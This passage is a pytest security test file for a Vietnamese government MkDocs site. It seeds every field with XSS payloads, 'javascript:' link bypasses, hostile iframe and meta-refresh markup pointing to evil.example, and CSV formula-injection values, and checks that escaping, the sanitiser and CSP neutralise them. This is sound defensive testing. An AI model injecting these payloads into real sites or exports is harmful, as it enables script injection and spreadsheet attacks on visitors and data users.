"""Hostile content gets nothing (issue 16).

Every value a template prints is escaped, attributes and URLs included (a rule checked on
the templates themselves, then on a real build where every field and file name is
hostile, then in Chromium); editors' Markdown reaches a page only through the sanitiser;
the open-data CSV cannot carry a spreadsheet formula; /admin/ runs under a policy of its own.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote, unquote

import lxml.html
import pytest
from conftest import ROOT, Project, serve
from jinja2 import Environment, nodes
from PIL import Image

from cchc.core.errors import FileErrors
from cchc.core.html_policy import Sanitiser, bad_scheme, check_markdown_html
from cchc.editor.admin import connect_origins, image_origins
from cchc.render.csp import admin_policy
from cchc.render.markdown_cache import RenderCache
from cchc.tthc import export

# -- the rule, on the templates --------------------------------------------------------------------

# Filters whose output is safe in markup whatever went in: escaping ones (the site's `url`
# escapes, hooks/site.py), JSON for <script> blocks (Jinja's tojson writes < > & ' as \u…),
# a URL-encoded query value, dates and counts.
SAFE_FILTERS = {"e", "escape", "url", "tojson", "url_param", "vn_date", "vn_datetime", "length", "int",
                "so", "ty_le"}  # figures of /tthc/ket-qua/: digits, "." "," "%" or fixed words (cchc.results.words)
# Printed as they are on purpose: HTML the site made itself, and numbers.
TRUSTED = {
    "page.content",  # Markdown converted by MkDocs, then sanitised for content pages (hooks/site.py)
    "cchc.qr",  # an SVG drawn by segno (cchc/render/qr.py)
    "toc_item.title", "toc_item.typeset.title",  # Python-Markdown's toc: tags stripped, & < > escaped
    # numbers
    "pager.number", "pager.count", "pager.total", "number", "year", "y", "ns.n", "loop.index", "count",
    "cchc.count", "cchc.counts[kind]", "post.image_size[0]", "post.image_size[1]", "post.thumbnail_size[0]",
    "post.thumbnail_size[1]", "s.image_size[0]", "s.image_size[1]",
}
TEMPLATES = sorted([*(ROOT / "overrides").rglob("*.html"), *(ROOT / "overrides").rglob("*.xml")])


def _dotted(node: nodes.Node) -> str | None:
    if isinstance(node, nodes.Name):
        return node.name
    if isinstance(node, nodes.Getattr):
        base = _dotted(node.node)
        return base and f"{base}.{node.attr}"
    if isinstance(node, nodes.Getitem):
        base, arg = _dotted(node.node), node.arg
        key = arg.value if isinstance(arg, nodes.Const) else _dotted(arg)
        return base and key is not None and f"{base}[{key}]"
    return None


def _macros() -> set[str]:
    env = Environment()
    return {macro.name for path in TEMPLATES
            for macro in env.parse(path.read_text(encoding="utf-8")).find_all(nodes.Macro)}


def _safe(node: nodes.Node, macros: set[str]) -> bool:
    if isinstance(node, nodes.Const):
        return True  # text of the template itself
    if isinstance(node, nodes.Getitem) and isinstance(node.node, nodes.Dict):
        return all(isinstance(pair.value, nodes.Const) for pair in node.node.items)  # a table in the template
    if isinstance(node, nodes.Filter):
        return node.name in SAFE_FILTERS
    if isinstance(node, nodes.CondExpr):
        return _safe(node.expr1, macros) and (node.expr2 is None or _safe(node.expr2, macros))
    if isinstance(node, nodes.Call):
        # A macro's output is checked where the macro is written; super() and frame.once render
        # blocks of these templates or Material's; isoformat() is a date.
        func = node.node
        name = func.name if isinstance(func, nodes.Name) else func.attr if isinstance(func, nodes.Getattr) else ""
        return name in macros | {"super", "once", "isoformat"}
    return _dotted(node) in TRUSTED


def test_every_template_escapes_every_value_it_prints():
    env, macros, unescaped = Environment(), _macros(), []
    for path in TEMPLATES:
        source = path.read_text(encoding="utf-8")
        for output in env.parse(source).find_all(nodes.Output):
            for node in output.nodes:
                if not isinstance(node, nodes.TemplateData) and not _safe(node, macros):
                    unescaped.append(f"{path.relative_to(ROOT)}:{node.lineno}: {source.splitlines()[node.lineno - 1].strip()}")
    assert not unescaped, "printed without | e (or a safe filter):\n" + "\n".join(unescaped)


def test_the_rule_catches_an_unescaped_value():
    """The check above is not vacuous: a raw record value, a raw call and a raw concatenation fail it."""
    env, macros = Environment(), _macros()
    printed = [node for output in env.parse("{{ p.name }}{{ p.name | upper }}{{ a ~ b }}{{ p.name | e }}"
                                            "{{ post.date.isoformat() }}").find_all(nodes.Output)
               for node in output.nodes]
    assert [_safe(node, macros) for node in printed] == [False, False, False, True, True]


# -- a site where everything an editor or a configuration can type is hostile ----------------------

# In text: an element that must never appear, a script the site itself serves (which the CSP
# would let run), an inline handler, and quotes to leave an attribute.
PAYLOAD = '"\'><i data-hostile></i><script src=/e.js></script><img src=x onerror=alert(1)>'
SHORT_PAYLOAD = '"\'><i data-hostile></i><script src=/e.js></script>'  # for names of at most 80 characters
# In fields whose pattern wants a URL (no spaces): the same, spaced by slashes.
URL_PAYLOAD = 'https://x.example.vn/"><i/data-hostile></i><script/src=/e.js></script>'
# In file names (no "/" on Linux, no ":" by the schemas): leave the attribute, add an element.
FILE_PAYLOAD = 'a"><i data-hostile><img src=x onerror=alert(1)>'
# Served from the site itself: if any payload's script ran, it would say so in three ways.
EVIL_JS = 'document.title = "HOSTILE"; try { localStorage.setItem("canary", "HOSTILE"); } catch (e) {}\nalert("HOSTILE");\n'
CANARY = "intact"


def q(text: str) -> str:
    """A YAML single-quoted scalar: nothing in it is special but the quote itself."""
    return "'" + text.replace("'", "''") + "'"


def h(prefix: str, payload: str = PAYLOAD) -> str:
    return q(f"{prefix} {payload}")


# Markdown that the source check lets through and the sanitiser must still clean: a style that
# covers the page, an element shadowing Material's configuration, a text field, a heading id
# that leaves its attribute (in the content and in the table of contents), data attributes.
HOSTILE_MARKDOWN = """\
Đoạn mở đầu với **chữ đậm** và [liên kết](https://dichvucong.gov.vn/).

## Mục có mã riêng {: id='x" autofocus onfocus="alert(3)' data-hostile-attr="1" }

<span style="position:fixed;top:0;left:0;width:100%;height:100%" data-hostile-style="1">phủ trang</span>

<p id="__config">{"base": "/", "features": [], "search": "e.js"}</p>

<input type="text" name="mat-khau" placeholder="Mật khẩu">

| Cột | Số |
|:----|---:|
| a   | 1  |
"""


def _config(text: str) -> str:
    for old, new in {
        "site_name: &department_name Sở Y tế tỉnh Hoà An": f"site_name: &department_name {h('Sở Y tế')}",
        "site_description: Tin": f"site_description: {h('Mô tả')}\n# Tin",
        "hotline: \"1900 0000\"": "hotline: " + q('1900 0000" onclick="alert(1)'),
        "address: Số 1 đường": f"address: {h('Địa chỉ')}\n    # Số 1 đường",
        "working_hours: Thứ Hai": f"working_hours: {h('Giờ')}\n    # Thứ Hai",
        "national: https://dichvucong.gov.vn/": f"national: {q(URL_PAYLOAD)}",
        "survey: https://": f"survey: {q(URL_PAYLOAD)}\n    # https://",
        "base_url: https://dang-nhap.syt-hoaan.example.gov.vn": f"base_url: {q(URL_PAYLOAD)}",
    }.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


RECORD = f"""\
code: "1.004616"
level: tinh
name: {h('Cấp giấy phép')}
type: {h('Loại')}
field: linh-vuc-doc
decision: {h('Quyết định')}
portal_url: {q(URL_PAYLOAD)}
aliases: [ten-cu]
steps_by_case:
  - case: {h('Trường hợp')}
    steps: [{h('Bước 1')}, {q('Dòng một' + chr(10) + PAYLOAD)}]
channels:
  - channel: truc_tiep
    case: {h('Trường hợp nộp')}
    times:
      - {{value: 10, unit: ngay_lam_viec, note: {h('Ghi chú')}, case: {h('Khi')}}}
      - {{text: {h('Thời hạn bằng lời')}}}
    fees:
      - {{kind: phi, amount: 360000, unit: {h('/lần')}, case: {h('Khi')}, description: {h('Phí')}}}
      - {{kind: le_phi, amount_text: {h('Tiền')}}}
    description: {h('Mô tả cách thức')}
dossier:
  sets_text: {h('Một bộ')}
  note: {h('Lưu ý')}
  cases:
    - case: {h('Hồ sơ gồm')}
      documents:
        - name: {h('Đơn')}
          form: {q('mau/' + FILE_PAYLOAD + '.docx')}
          form_name: {h('Mẫu 01')}
          count_text: {h('Một bản')}
          note: {h('Ghi chú')}
subjects: [{h('Công dân')}]
agencies:
  competent: {h('Sở')}
  executing: {h('Phòng')}
  delegated: {h('Trung tâm')}
  coordinating: {h('Công an')}
receiving_address: {h('Địa chỉ nhận')}
receiving_hours: {h('Giờ nhận')}
results: [{h('Giấy phép')}, {h('Bản sao')}]
conditions: [{h('Điều kiện')}]
legal_basis:
  - {{number: {h('15/2023/QH15')}, title: {h('Luật')}, issuer: {h('Quốc hội')}, date: 2023-01-09}}
internal_workflow:
  - {{step: {h('B1')}, content: {h('Tiếp nhận')}, unit: {h('Bộ phận một cửa')}, time: {{text: {h('Nửa ngày')}}}}}
related: ["1.000001", {h('Thủ tục khác')}]
online:
  level: toan_trinh
  url: {q(URL_PAYLOAD)}
"""

OTHER_RECORD = f"""\
code: "1.000001"
level: tinh
name: {h('Thủ tục thứ hai')}
field: linh-vuc-doc
"""

DECISION = f"""\
number: "10/QĐ-UBND"
issuer: {h('Uỷ ban')}
signed: 2024-01-10
effective: 2024-01-15
title: {h('Về việc công bố')}
attachment: {q(FILE_PAYLOAD + '.pdf')}
entries:
  - change: moi_ban_hanh
    procedure: "1.004616"
    summary: {h('Tóm tắt')}
    basis: {h('Căn cứ')}
  - change: sua_doi_bo_sung
    procedure: "1.000001"
    summary: {h('Sửa')}
"""


def _jpeg(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (800, 450), (30, 90, 160)).save(path, "JPEG")


def _docx(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")


def make_hostile(project: Project) -> Project:
    config = project.path / "mkdocs.yml"
    config.write_text(_config(config.read_text(encoding="utf-8")), encoding="utf-8")
    project.write("docs/e.js", EVIL_JS)
    project.write("content/categories.yml", f"""\
        categories:
          - name: {h('CM', SHORT_PAYLOAD)}
            slug: chuyen-muc-doc
            description: {h('Mô tả chuyên mục')}
        """)
    project.write("content/linh-vuc.yml", f"""\
        fields:
          - name: {h('LV', SHORT_PAYLOAD)}
            slug: linh-vuc-doc
            description: {h('Mô tả lĩnh vực')}
        """)
    _jpeg(project.path / "content/news/2024" / f"{FILE_PAYLOAD}.jpg")
    body = HOSTILE_MARKDOWN
    project.write("content/news/2024/2024-03-07-tin-doc.md", "---\n" + "\n".join([
        f"title: {h('Tin')}", "date: 2024-03-07 08:00", "category: chuyen-muc-doc", f"summary: {h('Tóm tắt')}",
        f"image: {q(FILE_PAYLOAD + '.jpg')}", f"image_alt: {h('Ảnh')}", f"tags: [{h('thẻ')}]", f"author: {h('Tác giả')}",
    ]) + "\n---\n\n" + body)
    project.write("content/news/2024/2024-03-08-tin-thu-hai.md", "---\n" + "\n".join([
        f"title: {h('Tin thứ hai')}", "date: 2024-03-08 08:00", "category: chuyen-muc-doc", f"summary: {h('Tóm tắt')}",
    ]) + "\n---\n\nNội dung.\n")
    answer = "\n".join("      " + line for line in body.splitlines())
    project.write("content/hoi-dap.yml", f"questions:\n  - question: {h('Hỏi')}\n    topic: {h('Nhóm')}\n"
                                         f"    answer: |\n{answer}\n  - question: {h('Hỏi nữa')}\n"
                                         f"    topic: {h('Nhóm khác')}\n    answer: Câu trả lời thường, bằng chữ.\n")
    _docx(project.path / "content/tthc/mau" / f"{FILE_PAYLOAD}.docx")
    project.write("content/tthc/1.004616.yml", RECORD)
    project.write("content/tthc/1.000001.yml", OTHER_RECORD)
    project.write(f"content/tthc/quyet-dinh/{FILE_PAYLOAD}.pdf", b"%PDF-1.4\n%%EOF\n")
    project.write("content/tthc/quyet-dinh/qd-10-ubnd-2024.yml", DECISION)
    # A month of results: the field's name reaches the charts (SVG), the tables, the CSV and the feed.
    project.write("content/ket-qua/2024-10.yml", f"""\
        source: {q('=HYPERLINK("http://x.vn")' + PAYLOAD)}
        fields:
          - field: linh-vuc-doc
            carried_over: 1
            received_online: 5
            received_direct: 2
            settled_on_time: 6
            settled_late: 1
            pending_on_time: 1
            pending_overdue: 0
        """)
    return project


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Project:
    project = make_hostile(Project(tmp_path_factory.mktemp("hostile") / "site-src", with_demo_content=False))
    result = project.build()
    assert result.returncode == 0, result.stderr[-3000:]
    return project


@pytest.fixture(scope="module")
def hostile(hostile_project) -> Path:
    return hostile_project.path / "site"


def _pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("*.html") if "admin" not in p.parts or p.name == "index.html")


@pytest.mark.build
def test_the_hostile_site_has_every_kind_of_page(hostile):
    """The build below covers each template: a page of each, each holding the payload (escaped)."""
    expected = ["index.html", "tin-tuc/index.html", "tin-tuc/2024/tin-doc/index.html", "tin-tuc/2024/index.html",
                "chuyen-muc/chuyen-muc-doc/index.html", "hoi-dap/index.html", "lien-he/index.html",
                "tim-kiem/index.html", "tthc/index.html", "tthc/1.004616/index.html", "tthc/ten-cu/index.html",
                "tthc/linh-vuc/linh-vuc-doc/index.html", "tthc/so-tay/index.html",
                "tthc/so-tay/linh-vuc-doc/index.html", "tthc/thay-doi/index.html",
                "tthc/quyet-dinh/qd-10-ubnd-2024/index.html", "tthc/ket-qua/index.html",
                "tthc/ket-qua/2024/index.html", "404.html", "admin/index.html"]
    for name in expected:
        page = (hostile / name).read_text(encoding="utf-8")
        assert "data-hostile" in page or name == "tim-kiem/index.html", name  # the search page shows no record
    assert (hostile / "e.js").is_file() and (hostile / "tthc/quyet-dinh" / f"{FILE_PAYLOAD}.pdf").is_file()


# What must never come out as markup, as it would be written unescaped.
RAW = ["<i data-hostile", "<i/data-hostile", "<script src=/e.js", "<script/src=/e.js", "<img src=x onerror",
       'onclick="alert', "javascript:"]


@pytest.mark.build
def test_no_payload_survives_unescaped_in_any_page(hostile):
    found = []
    for path in [*_pages(hostile), *hostile.rglob("*.xml"), *hostile.rglob("*.svg")]:
        text = path.read_text(encoding="utf-8")
        found += [f"{path.relative_to(hostile)}: {raw}" for raw in RAW if raw in text]
    assert not found, "\n".join(found)


@pytest.mark.build
def test_no_page_holds_an_element_or_attribute_of_the_payload(hostile):
    """Parsed as a browser does: no injected element, no event handler, no script but the site's."""
    problems = []
    for path in _pages(hostile):
        tree = lxml.html.fromstring(path.read_bytes())
        where = path.relative_to(hostile)
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                if name.startswith("on") or name.startswith("data-hostile") or name == "autofocus":
                    problems.append(f"{where}: <{element.tag} {name}=…>")
                if name in ("href", "src", "action", "content") and bad_scheme(value):
                    problems.append(f"{where}: <{element.tag} {name}={value[:40]}>")
            if element.tag == "i" and element.get("data-hostile") is not None:
                problems.append(f"{where}: <i data-hostile>")
            if element.tag == "script" and re.search(r"(^|/)e\.js$", element.get("src") or ""):
                problems.append(f"{where}: <script src=…e.js>")
            if element.tag == "img" and (element.get("src") or "") == "x":
                problems.append(f"{where}: <img src=x>")
            if element.get("id", "").startswith("__config") and element.tag != "script":
                problems.append(f"{where}: <{element.tag} id=__config>")
            if element.get("style") and "position" in element.get("style"):
                problems.append(f"{where}: a style from the content")
            if element.tag == "input" and element.get("name") == "mat-khau" and element.get("type") != "radio":
                problems.append(f"{where}: a text field from the content")
    assert not problems, "\n".join(sorted(set(problems)))


@pytest.mark.build
def test_file_names_are_escaped_in_href_src_and_og_image(hostile):
    """The three sinks of the issue, read back as a browser reads them: the real file name, whole
    (percent-encoded or not), and the file is there."""
    decision = lxml.html.fromstring((hostile / "tthc/quyet-dinh/qd-10-ubnd-2024/index.html").read_bytes())
    assert any(unquote(a.get("href", "")).endswith(f"{FILE_PAYLOAD}.pdf") for a in decision.iter("a"))
    procedure = lxml.html.fromstring((hostile / "tthc/1.004616/index.html").read_bytes())
    assert any(unquote(a.get("href", "")).endswith(f"mau/{FILE_PAYLOAD}.docx") for a in procedure.iter("a"))
    post = lxml.html.fromstring((hostile / "tin-tuc/2024/tin-doc/index.html").read_bytes())
    assert any(unquote(img.get("src", "")).endswith(f"{FILE_PAYLOAD}.jpg") for img in post.iter("img"))
    og = {m.get("property"): m.get("content") for m in post.iter("meta") if m.get("property")}
    assert unquote(og["og:image"]).endswith(f"{FILE_PAYLOAD}.jpg") and og["og:site_name"].endswith(PAYLOAD)
    assert (hostile / "tin-tuc/2024" / f"{FILE_PAYLOAD}.jpg").is_file()
    assert (hostile / "tthc/mau" / f"{FILE_PAYLOAD}.docx").is_file()
    assert post.findtext(".//title").startswith("Tin " + PAYLOAD)  # <title>, in Material's own template


@pytest.mark.build
def test_json_ld_cannot_close_its_script(hostile):
    page = (hostile / "tin-tuc/2024/tin-doc/index.html").read_text(encoding="utf-8")
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    assert blocks and all("<" not in block and "\\u003c" in block for block in blocks if "hostile" in block)


@pytest.mark.build
def test_sanitised_markdown_keeps_what_editors_write(hostile):
    """Posts and answers lose only what the allow-list refuses; their tables and headings stay."""
    for name in ("tin-tuc/2024/tin-doc/index.html", "hoi-dap/index.html"):
        page = (hostile / name).read_text(encoding="utf-8")
        tree = lxml.html.fromstring(page)
        assert "phủ trang" in page and tree.xpath("//strong[text()='chữ đậm']"), name
        assert tree.xpath("//td[@style='text-align:right' and text()='1']"), name
        heading = tree.xpath("//h2[contains(., 'Mục có mã riêng')]")[0]
        assert heading.get("id") == 'x" autofocus onfocus="alert(3)'  # an id, whole, and nothing else
        assert tree.xpath("//input[@name='mat-khau']")[0].get("type") == "radio"
        assert not tree.xpath("//*[@data-hostile-style or @data-hostile-attr]")
        # The table of contents links to that heading with an escaped URL, not an autofocus handler.
        toc_links = [a for a in tree.xpath("//nav[contains(@class, 'md-nav--secondary')]//a")
                     if "Mục có mã riêng" in a.text_content()]
        assert toc_links and toc_links[0].get("href") == '#x" autofocus onfocus="alert(3)'


@pytest.mark.build
@pytest.mark.parametrize("name", ["tthc.csv", "tthc-chi-tiet.csv"])
def test_csv_cells_cannot_be_formulas_and_codes_stay_text(hostile, name):
    rows = list(csv.reader(io.StringIO((hostile / "tthc" / name).read_text(encoding="utf-8-sig"))))
    header, body = rows[0], rows[1:]
    code = header.index("Mã thủ tục")
    # The only formula: ="…" around a code of digits and dots, whose result is that code as text.
    assert {row[code] for row in body} == {'="1.004616"', '="1.000001"'}
    cells = [cell for row in body for i, cell in enumerate(row) if i != code]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.build
def test_results_csv_cells_cannot_be_formulas(hostile):
    rows = list(csv.reader(io.StringIO((hostile / "tthc/ket-qua/ket-qua.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("data-hostile" in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://x.vn/?"&A1;"Bấm")', "'=HYPERLINK(\"http://x.vn/?\"&A1;\"Bấm\")"),
    ("+84 1900", "'+84 1900"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Cấp giấy phép", "Cấp giấy phép"), ("'đã có", "'đã có"), ("", ""),
])
def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(value, cell):
    assert export.spreadsheet_text(value) == cell


@pytest.mark.parametrize("code, cell", [
    ("1.004616", '="1.004616"'), ("1.004616.000.00.00.H41", "1.004616.000.00.00.H41"), ("1.013868.H41", "1.013868.H41"),
    ("Chưa có mã", "Chưa có mã"),
    # Only digits and dots go inside ="…": a quote could end the string and start a formula of its own.
    ('1.0"&HYPERLINK("x")&"', '1.0"&HYPERLINK("x")&"'), ("=1.004616", "'=1.004616"), ("1.004616\n=1", "1.004616\n=1"),
])
def test_a_code_that_looks_like_a_number_is_kept_as_text(code, cell):
    assert export.spreadsheet_text(code, code=True) == cell


@pytest.mark.build
def test_the_render_cache_gives_the_same_sanitised_posts(hostile_project, hostile, tmp_path):
    """A second build takes the post from the cache: the page is byte for byte the first build's.

    (Its cache entry was stored sanitised; an entry from before the sanitiser has another key.)"""
    assert list((hostile_project.path / ".cache/pages").glob("*.pickle")), "the first build stored its posts"
    result = hostile_project.build(site=str(tmp_path / "again"))
    assert result.returncode == 0, result.stderr[-2000:]
    for name in ("tin-tuc/2024/tin-doc/index.html", "hoi-dap/index.html"):
        assert (tmp_path / "again" / name).read_bytes() == (hostile / name).read_bytes(), name


def test_the_cache_key_names_the_sanitiser_and_its_allow_list(tmp_path):
    plain, embedding = Sanitiser(), Sanitiser(frozenset({"www.youtube-nocookie.com"}))
    assert plain.fingerprint != embedding.fingerprint
    keys = {RenderCache(tmp_path, salt).key("tin/a.md", "# A") for salt in (plain.fingerprint, embedding.fingerprint)}
    assert len(keys) == 2


# -- in Chromium ----------------------------------------------------------------------------------

BROWSER_PAGES = ["", "tin-tuc/", "tin-tuc/2024/tin-doc/", "tin-tuc/2024/", "chuyen-muc/chuyen-muc-doc/",
                 "hoi-dap/", "lien-he/", "tthc/", "tthc/1.004616/", "tthc/ten-cu/", "tthc/linh-vuc/linh-vuc-doc/",
                 "tthc/so-tay/", "tthc/so-tay/linh-vuc-doc/", "tthc/thay-doi/", "tthc/quyet-dinh/qd-10-ubnd-2024/", "404.html"]


@pytest.mark.build
@pytest.mark.browser
def test_no_payload_runs_in_chromium(browser, hostile):
    httpd, url = serve(hostile)
    dialogs: list[str] = []
    try:
        context = browser.new_context()
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(url + "e.js")  # any page of the origin, to plant the canary
        page.evaluate(f"localStorage.setItem('canary', '{CANARY}')")
        for path in BROWSER_PAGES:
            page.goto(url + quote(path), wait_until="load")
            page.wait_for_timeout(150)  # an onload or onerror would have fired by now
            assert page.title() != "HOSTILE", path
            found = page.evaluate("""() => ({
                canary: localStorage.getItem('canary'),
                injected: document.querySelectorAll('[data-hostile], script[src$="/e.js"], script[src="e.js"], img[src="x"]').length,
                handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
                config: document.querySelectorAll('#__config').length,
            })""")
            assert (found["canary"], found["injected"], found["handlers"]) == (CANARY, 0, 0), (path, found)
            assert found["config"] <= 1, path  # Material's own, never one from the content
        # The check itself works: the script, were it included, does all three.
        page.goto(url + "tin-tuc/")
        page.add_script_tag(url=url + "e.js")
        page.wait_for_timeout(150)
        assert page.title() == "HOSTILE" and page.evaluate("localStorage.getItem('canary')") == "HOSTILE"
        assert dialogs == ["HOSTILE"]
        context.close()
    finally:
        httpd.shutdown()


@pytest.mark.build
@pytest.mark.browser
def test_admin_runs_under_its_policy_and_talks_only_to_its_backends(browser, hostile):
    """Sveltia boots under the policy (no 'unsafe-eval', nothing inline), with no CSP violation and no
    request off this machine, and a request anywhere else, as an injected script would make, is refused."""
    meta = lxml.html.fromstring((hostile / "admin/index.html").read_bytes()).xpath(
        "//meta[@http-equiv='Content-Security-Policy']/@content")
    # The OAuth relay (here a hostile URL) is opened in a pop-up, never fetched: not in the policy.
    assert meta and "connect-src 'self' data: http://127.0.0.1:8081 http://localhost:8081 https://api.github.com;" in meta[0]
    scripts = meta[0].split("script-src")[1].split(";")[0]
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
    httpd, url = serve(hostile)
    try:
        context = browser.new_context()
        page = context.new_page()
        violations: list[str] = []
        requests: list[str] = []
        page.on("console", lambda message: violations.append(message.text)
                if "Content Security Policy" in message.text else None)
        page.on("request", lambda request: requests.append(request.url))
        page.goto(url + "admin/")
        # Opened from 127.0.0.1, it is set up for the local backend of `make edit` (not running here).
        page.get_by_role("button", name="Đăng nhập bằng mã truy cập").wait_for(timeout=15000)
        assert not violations, violations
        assert [r for r in requests if not r.startswith(("http://127.0.0.1:", "data:", "blob:"))] == []
        assert url + "admin/cau-hinh-cuc-bo.json" in requests
        outcome = page.evaluate("""() => fetch('https://example.org/').then(() => 'sent', e => 'blocked')""")
        assert outcome == "blocked"
        assert any("connect-src" in v for v in violations), violations
        context.close()
    finally:
        httpd.shutdown()


def test_admin_policy_names_the_configured_backends():
    config = {"backend": {"name": "github", "base_url": "https://dang-nhap.example.vn/auth/"}}
    origins = connect_origins(config, 8099)
    assert origins == ["http://127.0.0.1:8099", "http://localhost:8099", "https://api.github.com"]
    policy = admin_policy(origins, image_origins(config))
    assert "connect-src 'self' data: http://127.0.0.1:8099 http://localhost:8099 https://api.github.com;" in policy
    assert "img-src 'self' data: blob: https://avatars.githubusercontent.com;" in policy
    assert "script-src 'self' 'wasm-unsafe-eval';" in policy
    assert "object-src 'none'" in policy and "frame-src blob:" in policy and "form-action 'none'" in policy
    # PKCE: the page itself asks the sign-in host for the token; a self-hosted service's avatars are its own.
    gitlab = {"backend": {"name": "gitlab", "auth_type": "pkce", "app_id": "x",
                          "api_root": "https://git.example.vn/api/v4", "base_url": "https://git.example.vn"}}
    assert connect_origins(gitlab) == ["https://git.example.vn"]
    assert image_origins(gitlab) == ["https://git.example.vn", "https://secure.gravatar.com"]
    assert connect_origins({"backend": {"name": "gitea", "app_id": "x"}}) == ["https://gitea.com"]
    # Nothing but an origin reaches the policy.
    assert connect_origins({"backend": {"name": "gitea", "api_root": "https://a;script-src *;/api/v1"}}) == []


# -- the Markdown policy, on the source and on the HTML ----------------------------------------------

def _problems(markdown: str) -> list[str]:
    errors = FileErrors("content/news/2024/2024-03-07-tin.md")
    check_markdown_html(markdown, 1, "nội dung", frozenset({"www.youtube-nocookie.com"}), errors)
    return [str(error) for error in errors.errors]


@pytest.mark.parametrize("markdown, message", [
    ("[bấm][r]\n\n[r]: javascript:alert(1)\n", "3: nội dung: không được dùng liên kết “javascript:”"),
    ("[bấm][r]\n\n[r]: <JavaScript:alert(1)> \"tiêu đề\"\n", "3: nội dung: không được dùng liên kết “javascript:”"),
    ("Đoạn văn\n{: onclick=\"alert(1)\" }\n", "2: nội dung: không được dùng thuộc tính onclick="),
    ("## Mục { #muc onmouseover=alert(1) }\n", "1: nội dung: không được dùng thuộc tính onmouseover="),
    ("[x](https://a.vn){: href=\"javascript:alert(1)\" }\n", "1: nội dung: không được dùng đường dẫn “javascript:” trong href="),
    ("[bấm](java&#x09;script:alert(1))\n", "1: nội dung: không được dùng liên kết “javascript:”"),
    ("[bấm](&#106;avascript:alert(1))\n", "1: nội dung: không được dùng liên kết “javascript:”"),
    ('<a href="java&#x0A;script:alert(1)">bấm</a>\n', "1: nội dung: không được dùng đường dẫn “javascript:” trong href="),
    ('<a href=" vbscript:x">bấm</a>\n', "1: nội dung: không được dùng đường dẫn “vbscript:” trong href="),
])
def test_the_source_check_tells_the_editor_about_each_form(markdown, message):
    problems = _problems(markdown)
    assert len(problems) == 1 and f".md:{message}" in problems[0], problems


@pytest.mark.parametrize("markdown", [
    "Giá {1} và {a=b}, [x](https://a.vn/?q={x}), {: .note #muc }\n",
    "`{: onclick=x}` và `[r]: javascript:x` là mã, không chạy\n",
    "```\n<script>alert(1)</script>\n[r]: javascript:x\n```\n",
    "[Cổng](https://dichvucong.gov.vn/) · [thư](mailto:a@b.vn) · [gọi](tel:19000000) · [tệp](../a.pdf)\n",
])
def test_the_source_check_lets_ordinary_text_pass(markdown):
    assert _problems(markdown) == []


def _markdown_html(markdown: str) -> str:
    """Converted as MkDocs converts a post, with the extensions of mkdocs.yml."""
    import yaml
    from markdown import Markdown
    from mkdocs.utils.yaml import get_yaml_loader

    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=get_yaml_loader())
    names, settings = [], {}
    for item in config["markdown_extensions"]:
        name, options = (item, {}) if isinstance(item, str) else next(iter(item.items()))
        names.append(name)
        settings[name] = options or {}
    return Markdown(extensions=names, extension_configs=settings).convert(markdown)


SANITISER = Sanitiser(frozenset({"www.youtube-nocookie.com"}))


@pytest.mark.parametrize("markdown, gone", [
    ("[bấm][r]\n\n[r]: javascript:alert(1)\n", "javascript:"),
    ("[bấm](java&#x09;script:alert(1))\n", "script:"),
    ("[bấm](<javascript:alert(1)>)\n", "javascript:"),
    ("Đoạn văn\n{: onclick=\"alert(1)\" }\n", "onclick"),
    ("## Mục {#a\"onfocus=alert(1)}\n", "onfocus"),
    ('<a href="&#106;avascript:alert(1)">j</a>\n', "avascript"),
    ("<svg><script>alert(1)</script></svg>\n", "alert"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>\n', "javascript"),
    ('<img src="x.png" onerror="alert(1)">\n', "onerror"),
    ('<iframe src="https://evil.example/x"></iframe>\n', "evil.example"),
    ('<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube-nocookie.com/embed/x"></iframe>\n', "srcdoc"),
    ('<form action="/x"><button formaction="javascript:alert(1)">b</button></form>\n', "formaction"),
    ('<div style="background:url(javascript:alert(1))">d</div>\n', "style"),
    ('<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">\n', "swf"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "refresh"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>\n', "evil.example"),
    ('<p id="__config">{}</p><div id="__drawer"></div>\n', "__"),
    ('<a href="data:text/html,<script>alert(1)</script>">d</a>\n', "data:"),
    ("<!-- <script>alert(1)</script> -->\n", "alert"),
])
def test_the_sanitiser_removes_every_form(markdown, gone):
    assert gone not in SANITISER.clean(_markdown_html(markdown))


def test_the_sanitiser_keeps_what_the_site_markdown_makes():
    markdown = """\
## Mục một

Chữ **đậm**, *nghiêng*, ~~xoá~~, ^^chèn^^, ==đánh dấu==, H~2~O, x^2^, `mã`, [liên kết](../a.pdf "Tiêu đề"),
<abbr title="Cải cách hành chính">CCHC</abbr>, chú thích[^1].

![Ảnh hội nghị](anh.jpg){ width="300" height="200" loading=lazy }

!!! note "Lưu ý"
    Nội dung lưu ý.

??? tip "Chi tiết"
    Ẩn.

=== "Trực tiếp"
    Nộp tại quầy.

